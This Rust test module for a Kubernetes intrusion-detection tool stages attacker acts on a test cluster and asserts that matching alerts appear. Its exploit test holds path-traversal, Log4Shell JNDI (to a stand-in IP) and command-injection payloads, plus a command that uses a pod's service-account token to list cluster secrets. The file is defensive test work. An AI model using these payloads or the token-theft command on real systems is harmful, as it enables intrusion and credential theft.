//! What an attacker does to a cluster and its node, and the alert of each act.

use super::bed::{Bed, LAPTOP};
use crate::driver::LiveNode;
use jiff::Timestamp;
use serde_json::{Value, json};
use std::cell::Cell;
use std::collections::BTreeMap;
use std::time::Duration;

/// From an act to its alert.
const LIMIT_SECONDS: f64 = 10.0;
const GUESSER: &str = "203.0.113.50";

/// The shop, the people, and the node's own daemons.
pub struct Scene<'a> {
    pub bed: &'a Bed,
    pub node: LiveNode,
    pub dana: String,
    mallory: String,
    /// The pod of the shop, and its address.
    pub web: (String, String),
    /// How often dana entered.
    pub entered: Cell<u64>,
}

/// A rule and the values of its key, which an alert is known by.
pub fn name(alert: &Value) -> (String, BTreeMap<String, String>) {
    let text = |value: &Value| value.as_str().unwrap_or_default().to_owned();
    let parts = alert["spec"]["key"].as_array().into_iter().flatten();
    (text(&alert["spec"]["ruleRef"]["name"]), parts.map(|part| (text(&part["name"]), text(&part["value"]))).collect())
}

impl<'a> Scene<'a> {
    pub fn set(bed: &'a Bed) -> Scene<'a> {
        bed.apply(include_str!("shop.yaml"));
        bed.kubectl("-n shop rollout status deployment/web --timeout=2m");
        let pods = bed.objects("pods");
        let pod = pods.iter().find(|pod| pod["metadata"]["labels"]["app"] == "web").unwrap();
        let text = |value: &Value| value.as_str().unwrap().to_owned();
        let web = (text(&pod["metadata"]["name"]), text(&pod["status"]["podIP"]));
        let node = LiveNode::drive(bed.command(&["python3", "/scripts/live.py", "no-kernel"]));
        let collector = "the collector reads the node's files and the shop's";
        bed.until(collector, || (collector_metric(bed, "files_open")? >= 4.0).then_some(()));
        bed.tell("the shop is open, the node's sshd listens, and both are read");
        Scene { bed, node, dana: bed.person("dana"), mallory: bed.person("mallory"), web, entered: Cell::new(0) }
    }

    /// kubectl as somebody, on the laptop.
    pub fn as_person(&self, kubeconfig: &str, words: &[&str], input: &str) {
        let mut all = vec!["kubectl", "--kubeconfig", kubeconfig];
        all.extend(words);
        let output = self.bed.try_with(input.as_bytes(), &Bed::on_laptop(&all));
        assert!(output.ok, "{words:?}: {}", output.stderr);
    }

    /// Dana enters the shop's pod.
    pub fn enter(&self) {
        self.as_person(&self.dana, &["-n", "shop", "exec", &self.web.0, "--", "ls", "/"], "");
        self.entered.set(self.entered.get() + 1);
    }

    /// Some times, where kubelet or the API server may be away for a moment: a refused entry is not counted.
    pub fn enter_again_and_again(&self, times: u64) {
        for _ in 0..times {
            let words = ["kubectl", "--kubeconfig", &self.dana, "-n", "shop", "exec", &self.web.0, "--", "ls", "/"];
            if self.bed.try_run(&Bed::on_laptop(&words)).ok {
                self.entered.set(self.entered.get() + 1);
            }
            std::thread::sleep(Duration::from_millis(200));
        }
    }

    /// Waits for the alert of an act that began at `since`: its key, words of its summary, and entities of it.
    fn expect(&self, since: Timestamp, rule: &str, key: Value, words: &[&str], entities: &[(&str, &str)]) {
        let wanted = (rule.to_owned(), serde_json::from_value(key).unwrap());
        let alert = self.bed.until(&format!("the alert {wanted:?}"), || {
            let found = self.bed.objects("securityalerts");
            found.into_iter().find(|alert| name(alert) == wanted && !alert["status"]["summary"].is_null())
        });
        let seen = kubewitness::telemetry::now();
        let status = &alert["status"];
        let summary = status["summary"].as_str().unwrap();
        words.iter().for_each(|word| assert!(summary.contains(word), "{rule}: `{word}` is not in: {summary}"));
        let listed = status["entities"].as_array().unwrap();
        for (kind, name) in entities {
            let is = |entity: &Value| entity["kind"] == **kind && entity["name"] == **name;
            assert!(listed.iter().any(is), "{rule}: {kind} {name} is not in {listed:?}");
        }
        // The API server's stamp has no part of a second: the alert came within the second after it, and before it was seen.
        let created: Timestamp = alert["metadata"]["creationTimestamp"].as_str().unwrap().parse().unwrap();
        let at_latest = seen.min(created + jiff::SignedDuration::from_secs(1));
        let took = (at_latest - since).total(jiff::Unit::Second).unwrap();
        assert!(took <= LIMIT_SECONDS, "{rule}: up to {took:.1} s after the act");
        self.bed.tell(&format!("{rule}, within {took:.1} s: {summary}"));
    }

    pub fn person_enters_pod(&self) {
        let since = kubewitness::telemetry::now();
        self.enter();
        let pod = format!("pods/{}", self.web.0);
        let words = [&format!("dana entered pod {} in shop from {LAPTOP}", self.web.0)[..]];
        let entities = [("User", "dana"), ("Address", LAPTOP), ("Resource", &pod[..]), ("Node", "node-1")];
        self.expect(since, "exec-into-pod", json!({"actor": "dana", "namespace": "shop"}), &words, &entities);
    }

    pub fn person_starts_privileged_pod(&self) {
        let pod = json!({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "debug", "namespace": "shop"}, "spec": {
            "terminationGracePeriodSeconds": 1,
            "containers": [{"name": "debug", "image": "registry.example.org/shop:1", "securityContext": {"privileged": true}}]}});
        let since = kubewitness::telemetry::now();
        self.as_person(&self.dana, &["create", "-f", "-"], &pod.to_string());
        let key = json!({"actor": "dana", "namespace": "shop", "risks": "privileged"});
        let words = ["dana wrote pods debug in shop with privileged"];
        self.expect(since, "privileged-pod-created", key, &words, &[("User", "dana"), ("Address", LAPTOP)]);
        // It is no mere wish: it runs.
        self.bed.kubectl("-n shop wait --for=condition=Ready pod/debug --timeout=60s");
    }

    pub fn exploit_and_then_the_pod_s_own_token(&self) {
        let since = kubewitness::telemetry::now();
        for path in
            ["/..%2f..%2f..%2fetc/passwd", "/?x=${jndi:ldap://203.0.113.9/a}", "/cgi-bin/a?b=;cat%20/etc/shadow"]
        {
            let url = format!("http://10.200.0.1:30080{path}");
            self.bed.run(&Bed::on_laptop(&["curl", "-gsS", "-o", "/dev/null", "--path-as-is", &url]));
        }
        let key = json!({"address": LAPTOP, "node": "node-1"});
        self.expect(since, "web-exploit-attempts", key, &[LAPTOP, "sent 3 exploits to node-1"], &[("Address", LAPTOP)]);

        let since = kubewitness::telemetry::now();
        // The exploit's shell, as containerd starts it: no API call tells of it but the token's.
        let steal = "curl -sSkf -o /dev/null -H \"Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\" \
            https://10.96.0.1/api/v1/namespaces/shop/secrets";
        let task = self.bed.run(&[
            "bash",
            "-c",
            "ctr -n k8s.io containers ls -q 'labels.\"io.kubernetes.container.name\"==nginx'",
        ]);
        self.bed.run(&["ctr", "-n", "k8s.io", "tasks", "exec", "--exec-id", "exploit", task.trim(), "sh", "-c", steal]);
        let account = "system:serviceaccount:shop:frontend";
        let (pod, address) = (&self.web.0[..], &self.web.1[..]);
        let entities = [("Address", address), ("Pod", pod), ("Node", "node-1")];
        let words = [account, address, "/api/v1/namespaces/shop/secrets"];
        self.expect(since, "secrets-listed-by-service-account", json!({"account": account}), &words, &entities);
        let words = [LAPTOP, "shop/web on node-1", account, address];
        let key = json!({"namespace": "shop", "workload": "web"});
        self.expect(since, "web-exploit-then-api-access", key, &words, &[("Address", LAPTOP), ("Node", "node-1")]);
    }

    pub fn guessed_password_and_then_the_cluster_s_secrets(&mut self) {
        let since = kubewitness::telemetry::now();
        self.node.act(&format!("ssh-fail root {GUESSER} 10"));
        let key = json!({"address": GUESSER, "node": "node-1"});
        let words = [GUESSER, "failed to log in to node-1 10 times"];
        self.expect(since, "ssh-brute-force", key.clone(), &words, &[("Address", GUESSER)]);
        let since = kubewitness::telemetry::now();
        self.node.act(&format!("ssh-ok bob {GUESSER} password"));
        let words = [GUESSER, "logged in to node-1 as bob after 10 failures"];
        self.expect(since, "ssh-login-after-failures", key, &words, &[("User", "bob"), ("Address", GUESSER)]);
        let since = kubewitness::telemetry::now();
        self.node.act("sudo-not-in-sudoers bob cat /etc/shadow");
        let key = json!({"user": "bob", "node": "node-1"});
        self.expect(since, "sudo-not-in-sudoers", key, &["bob", "node-1", "cat /etc/shadow"], &[("User", "bob")]);

        let since = kubewitness::telemetry::now();
        self.bed.run(&["kubectl", "--kubeconfig", &self.mallory, "get", "--raw", "/api/v1/namespaces/shop/secrets"]);
        let words =
            ["bob logged in", GUESSER, "mallory called the API from that node", "/api/v1/namespaces/shop/secrets"];
        let entities = [("User", "bob"), ("User", "mallory"), ("Node", "node-1"), ("Address", GUESSER)];
        self.expect(since, "brute-force-then-cluster-secrets", json!({"node": "node-1"}), &words, &entities);
        let words = ["bob logged in to node-1", "mallory called the API from that node"];
        self.expect(
            since,
            "node-credentials-used-after-ssh-login",
            json!({"node": "node-1"}),
            &words,
            &[("User", "mallory")],
        );
    }

    pub fn account_on_the_node_after_exec(&mut self) {
        let since = kubewitness::telemetry::now();
        self.node.act("useradd mallet");
        let words = ["dana ran a command in", &self.web.0.clone(), "node-1", "mallet"];
        self.expect(since, "exec-then-node-trouble", json!({"node": "node-1"}), &words, &[("User", "dana")]);
    }
}

/// A gauge or counter of the node's collector, by its name without `kubewitness_collector_`; the sum over its labels.
pub fn collector_metric(bed: &Bed, name: &str) -> Option<f64> {
    // The relay's admin port, on the node's loopback.
    let page = bed.try_run(&["curl", "-sS", "--max-time", "5", "http://127.0.0.1:9445/metrics"]);
    let name = format!("kubewitness_collector_{name}");
    let mut lines =
        page.stdout.lines().filter(|line| line.strip_prefix(&name).is_some_and(|rest| rest.starts_with([' ', '{'])));
    let first = lines.next()?;
    let value = |line: &str| line.rsplit(' ').next().and_then(|value| value.parse::<f64>().ok());
    Some(value(first)? + lines.filter_map(value).sum::<f64>())
}
